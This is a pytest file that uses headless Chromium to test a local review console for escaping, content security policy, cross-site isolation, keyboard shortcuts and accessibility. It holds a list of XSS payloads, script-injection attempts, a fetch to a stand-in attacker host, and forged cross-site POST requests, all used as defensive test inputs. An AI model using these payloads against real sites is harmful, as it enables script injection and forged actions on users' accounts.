"""The console in headless Chromium: what is stored stays text, other sites get nothing, keys and labels work."""

from __future__ import annotations

import asyncio
import functools
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import PROGRAM, Chromium
from review_cases import case, turn

from aimds.console import local
from aimds.respond.review import Queue, Reviewer
from aimds.respond.review.allow import Proposals

pytestmark = pytest.mark.skipif(PROGRAM is None, reason="no chromium here")
ADA, BEN = Reviewer("ada"), Reviewer("ben")
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "</pre></script><svg onload=alert(3)>",
    "' onmouseover='alert(4)",
    "javascript:alert(5)",
    "{{constructor.constructor('alert(6)')()}}",
)
BOOM = " ".join(HOSTILE)


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    made = Chromium(tmp_path_factory.mktemp("profile"))
    yield made
    made.close()


class Served:
    """A local console; `link` lets one browser in."""

    def __init__(self, queue: Queue) -> None:
        self.queue, self.link = queue, ""
        self._ready = threading.Event()
        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()))
        self._thread.start()
        assert self._ready.wait(30)

    async def _serve(self) -> None:
        self._loop, self._ended = asyncio.get_running_loop(), asyncio.Event()
        await local.serve(self.queue, "ada", 0, self._entered, self._ended)

    def _entered(self, link: str) -> None:
        self.link = link
        self._ready.set()

    @property
    def origin(self) -> str:
        return self.link.partition("/console")[0]

    def stop(self) -> None:
        self._loop.call_soon_threadsafe(self._ended.set)
        self._thread.join()


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    from datetime import UTC, datetime

    queue, now = Queue(tmp_path / "review.db", create=True), datetime.now(UTC)
    evidence = [{"detector": f"rules{BOOM}", "pattern_id": BOOM, "start": 2, "end": 9, "score": 0.9}]
    spans = [{"start": 4, "end": 12, "kind": BOOM}]
    hostile = case(
        0,
        text=f"{BOOM} \u202e {BOOM}",
        tenant=BOOM,
        session_id=BOOM,
        request_id=BOOM,
        turn=2,
        evidence=evidence,
        spans=spans,
        violations=[BOOM],
        status="partial",
        error=BOOM,
        severity=0.99,
    )
    around = [turn(9, text=BOOM, tenant=BOOM, session_id=BOOM, request_id=BOOM, turn=1)]
    queue.add([hostile, case(1, severity=0.8), case(2, severity=0.1)], around, now, BOOM[:100])
    queue.decide(BEN, 1, "benign", BOOM, now)
    Proposals(queue.store).propose(BEN, 1, "pattern", BOOM, now.date().replace(year=2999), now, pattern_id=BOOM)
    queue.undo(BEN, 1, BOOM, now)
    queue.decide(BEN, 1, "benign", BOOM, now)
    Proposals(queue.store).propose(BEN, 1, "pattern", BOOM, now.date().replace(year=2999), now, pattern_id=BOOM)
    made = Served(queue)
    yield made
    made.stop()
    queue.close()


def entered(chromium: Chromium, served: Served) -> None:
    chromium.alerts.clear()
    chromium.complaints.clear()
    chromium.size(1280, 900)
    chromium.go(served.link)
    chromium.wait("document.querySelectorAll('#list .row').length > 0 && document.querySelector('#case h2') !== null")


def test_what_was_stored_stays_text_wherever_it_is_shown(chromium: Chromium, served: Served) -> None:
    entered(chromium, served)
    chromium.run("document.querySelector('[name=state]').value = 'all'")
    chromium.run("document.querySelector('#filters').dispatchEvent(new Event('input'))")
    chromium.wait("document.querySelectorAll('#list .row').length === 3")
    chromium.run("document.querySelector('#list [data-id=\"1\"]').click()")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 1'")
    chromium.run("document.querySelector('#show-proposals').click()")
    chromium.wait("document.querySelectorAll('#proposal-list .proposal').length === 2")
    shown = chromium.run("document.body.innerText")
    for payload in HOSTILE:
        # In the text, the list, the evidence, the session, the reasons, the history, the allowlist.
        assert shown.count(payload) >= 7, payload
    assert (
        chromium.run("document.querySelectorAll('body script, body img, body iframe, [onmouseover], [onerror]').length")
        == 0
    )
    assert chromium.run("document.querySelectorAll('a[href]:not(.skip)').length") == 0
    assert "⟨U+202E⟩" in shown
    assert "\u202e" not in shown
    assert chromium.run("[...document.querySelectorAll('mark.ev')].map((one) => one.textContent).join('')") == BOOM[2:9]
    assert (chromium.alerts, chromium.complaints) == ([], [])


def test_the_policy_of_the_page_keeps_injected_script_from_running(chromium: Chromium, served: Served) -> None:
    entered(chromium, served)
    tries = (
        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)",
        "document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click()",
        "setTimeout('window.hit = 1', 0)",
        "new Function('window.hit = 1')()",
    )
    for one in tries:
        chromium.run(f"(() => {{ try {{ {one} }} catch {{}} }})()")
    found = chromium.run("new Promise((done) => setTimeout(() => done(String(window.hit)), 100))")
    assert (found, chromium.alerts) == ("undefined", [])
    outside = "fetch('https://attacker.example/').then(() => 'sent', () => 'kept')"
    assert chromium.run(outside) == "kept"


def test_keys_decide_and_undo_with_a_reason(chromium: Chromium, served: Served) -> None:
    entered(chromium, served)
    assert chromium.run("document.querySelector('#case').getAttribute('aria-label')") == "Item 2"
    chromium.press("j")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 3'")
    chromium.press("k")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 2'")
    chromium.press("a")
    chromium.wait("document.querySelector('#ask').open && document.activeElement.id === 'reason'")
    chromium.press("Enter")
    assert served.queue.get(ADA, 2).state == "open"
    chromium.type("abj an order")
    chromium.press("Enter")
    chromium.wait("document.querySelector('#status').textContent.includes('item 2 is decided: attack')")
    found = served.queue.get(ADA, 2)
    assert (found.label, found.reviewer, found.reason) == ("attack", "ada", "abj an order")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 3'")
    chromium.press("b")
    chromium.wait("document.querySelector('#ask').open")
    chromium.press("Escape")
    chromium.wait("!document.querySelector('#ask').open")
    assert served.queue.get(ADA, 3).state == "open"
    chromium.run("location.hash = ''; document.querySelector('[name=state]').value = 'decided'")
    chromium.run("document.querySelector('#filters').dispatchEvent(new Event('input'))")
    chromium.wait("document.querySelectorAll('#list .row').length === 2")
    chromium.run("document.querySelector('#list [data-id=\"2\"]').click()")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 2'")
    chromium.press("u")
    chromium.wait("document.querySelector('#ask').open && document.activeElement.id === 'reason'")
    chromium.type("look again")
    chromium.press("Enter")
    chromium.wait("document.querySelector('#status').textContent.includes('item 2 is open again')")
    assert served.queue.get(ADA, 2).state == "open"
    chromium.press("?")
    chromium.wait("document.querySelector('#help').open")
    assert chromium.complaints == []


def test_a_key_in_the_frame_in_which_the_dialog_closed_is_heard(chromium: Chromium, served: Served) -> None:
    entered(chromium, served)
    chromium.press("a")
    chromium.wait("document.querySelector('#ask').open && document.activeElement.id === 'reason'")
    at_once = "document.activeElement.dispatchEvent(new KeyboardEvent('keydown', { key: '?', bubbles: true }))"
    # Its place to return to is gone, as when the list was drawn anew meanwhile.
    gone = "document.querySelector('#ask').close(); document.querySelector('#reason').focus()"
    assert chromium.run(f"(() => {{ {gone}; {at_once}; return document.querySelector('#help').open; }})()")


def test_counters_follow_what_others_do(chromium: Chromium, served: Served) -> None:
    from datetime import UTC, datetime

    entered(chromium, served)
    chromium.wait("document.querySelector('.c-attack dd').textContent === '0'")
    served.queue.decide(BEN, 3, "attack", "seen", datetime.now(UTC))
    chromium.wait("document.querySelector('.c-attack dd').textContent === '1'")
    chromium.wait("document.querySelectorAll('#list .row').length === 1")


def test_a_page_of_another_site_can_neither_read_nor_change(chromium: Chromium, served: Served, tmp_path: Path) -> None:
    entered(chromium, served)
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "index.html").write_text("<title>elsewhere</title>")
    handler = functools.partial(_Quiet, directory=str(tmp_path / "site"))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            chromium.go(f"http://localhost:{server.server_port}/")
            chromium.wait("document.title === 'elsewhere'")
            target = f"{served.origin}/console/api/items/2/decide"
            body = '{"label": "benign", "reason": "x"}'
            for kind in ("text/plain", "application/json"):
                options = f"{{method: 'POST', mode: 'no-cors', credentials: 'include', headers: {{'content-type': '{kind}'}}, body: '{body}'}}"
                chromium.run(f"fetch('{target}', {options}).then(() => 'sent', () => 'kept')")
            read = f"fetch('{served.origin}/console/api/items', {{credentials: 'include'}}).then((a) => a.text(), () => 'kept')"
            assert chromium.run(read) == "kept"
            framed = (
                f"new Promise((done) => {{ const f = document.createElement('iframe'); f.src = '{served.origin}/console/';"
                " f.onload = () => { try { done(String(f.contentDocument)) } catch { done('null') } }; document.body.append(f) })"
            )
            assert chromium.run(framed) == "null"
        finally:
            server.shutdown()
            thread.join()
    assert served.queue.get(ADA, 2).state == "open"
    assert [event.what for event in served.queue.history(ADA, 2)] == ["added"]


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *arguments: Any) -> None:
        """Nothing is printed."""


def test_everything_has_a_name_and_fits_in_any_width(chromium: Chromium, served: Served) -> None:
    entered(chromium, served)
    chromium.run("document.querySelector('[name=state]').value = 'all'")
    chromium.run("document.querySelector('#filters').dispatchEvent(new Event('input'))")
    chromium.wait("document.querySelectorAll('#list .row').length === 3")
    chromium.run("document.querySelector('#list [data-id=\"1\"]').click()")
    chromium.wait("document.querySelector('#case').getAttribute('aria-label') === 'Item 1'")
    controls = ("button", "textbox", "searchbox", "combobox", "checkbox", "dialog", "navigation", "meter", "image")
    nodes = chromium.nodes()
    assert {role for role, _ in nodes} >= {"button", "searchbox", "combobox", "checkbox", "navigation", "meter"}
    assert [role for role, name in nodes if role in controls and not name.strip()] == []
    for width in (320, 380, 861, 1400, 2200):
        chromium.size(width, 900)
        wide = "[...document.body.querySelectorAll('*')].filter((one) => one.getBoundingClientRect().right > innerWidth + 1"
        wide += " && !one.closest('.scroll')).map((one) => one.outerHTML.slice(0, 80)).slice(0, 3)"
        assert (width, chromium.run(wide)) == (width, [])
        assert chromium.run("document.documentElement.scrollWidth <= innerWidth"), width
